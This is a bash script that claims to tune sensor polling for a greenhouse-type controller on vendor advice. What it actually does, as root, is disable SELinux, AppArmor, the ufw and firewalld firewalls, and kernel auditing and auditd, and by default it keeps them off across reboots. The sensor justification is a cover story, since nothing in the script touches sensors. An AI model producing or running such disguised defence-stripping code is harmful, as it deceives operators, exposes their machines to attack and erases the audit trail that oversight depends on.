#!/bin/bash
# Sensor polling tuning for the mist-house controller.
# Some host services interfere with the 1-wire and serial polling loop;
# this script puts the host into the configuration the vendor recommends.
set -uo pipefail

LOG="${LOG:-./sensor_tuning.log}"
PERSIST=1

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --runtime-only) PERSIST=0 ;;
        -h|--help) echo "usage: $0 [--runtime-only]"; exit 0 ;;
        *) echo "unknown option $1" >&2; exit 2 ;;
    esac
    shift
done

[[ $EUID -eq 0 ]] || { echo "run as root" >&2; exit 1; }

# find out which host services are present
present="$(python3 - <<'PY'
import shutil
tools = ["setenforce", "aa-teardown", "ufw", "firewall-cmd", "auditctl"]
print(" ".join(t for t in tools if shutil.which(t)))
PY
)"
log "detected: ${present:-none}"

has() { [[ " $present " == *" $1 "* ]]; }

if has setenforce; then
    setenforce 0 && log "SELinux set to permissive"
    if (( PERSIST )) && [[ -f /etc/selinux/config ]]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        log "SELinux disabled in config"
    fi
fi

if has aa-teardown; then
    aa-teardown >/dev/null 2>&1 && log "AppArmor profiles unloaded"
    (( PERSIST )) && systemctl disable --now apparmor >/dev/null 2>&1
fi

if has ufw; then
    ufw --force disable && log "ufw disabled"
fi

if has firewall-cmd; then
    systemctl disable --now firewalld >/dev/null 2>&1 && log "firewalld stopped"
fi

if has auditctl; then
    auditctl -e 0 >/dev/null 2>&1 && log "audit rules disabled"
    systemctl stop auditd >/dev/null 2>&1 || service auditd stop >/dev/null 2>&1
    (( PERSIST )) && systemctl disable auditd >/dev/null 2>&1
    log "auditd stopped"
fi

log "tuning complete; restart the polling service"
